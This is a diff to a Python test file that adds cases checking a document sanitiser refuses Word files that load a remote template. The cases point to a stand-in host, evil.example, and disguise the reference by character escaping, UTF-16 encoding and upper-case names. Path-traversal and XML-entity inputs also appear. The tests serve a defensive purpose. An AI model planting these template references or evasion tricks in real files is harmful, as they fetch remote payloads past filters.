@@ -221,6 +221,12 @@ def test_a_locked_pdf_is_refused() -> None:
     assert because(child.LOCKED, content, "a.pdf")
 
 
+TEMPLATE = (
+    '<Relationships><Relationship Id="1" Target="http://evil.example/t.dotm" Type="http://x/attachedTemplate" '
+    'TargetMode="External"/></Relationships>'
+)
+
+
 @pytest.mark.parametrize(
     "files",
     [
@@ -231,10 +237,27 @@ def test_a_locked_pdf_is_refused() -> None:
             "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="1" Type="http://x/attachedTemplate" '
             b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
         },
+        {"word/_rels/settings.xml.rels": TEMPLATE.replace("t.dotm", "hyperlink/t.dotm").encode()},
+        {"word/_rels/settings.xml.rels": TEMPLATE.replace("t.dotm", "t>.dotm").encode()},
+        {"word/_rels/settings.xml.rels": TEMPLATE.replace("External", "&#69;xternal").encode()},
+        {"word/_rels/settings.xml.rels": TEMPLATE.encode("utf-16")},
+        {"word/_rels/settings.xml.RELS": TEMPLATE.encode()},
         {"../../etc/passwd": b"x"},
         {"word/settings.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'},
     ],
-    ids=["macros", "object", "control", "template from elsewhere", "path", "entities"],
+    ids=[
+        "macros",
+        "object",
+        "control",
+        "template from elsewhere",
+        "template from an address like a link",
+        "template with a bracket in its address",
+        "template written in references",
+        "template in UTF-16",
+        "template in capitals",
+        "path",
+        "entities",
+    ],
 )
 def test_a_document_that_acts_or_fetches_is_refused(files: dict[str, bytes]) -> None:
     assert refused(package({**DOCUMENT, **files}), "a.docx").startswith("not-usable")
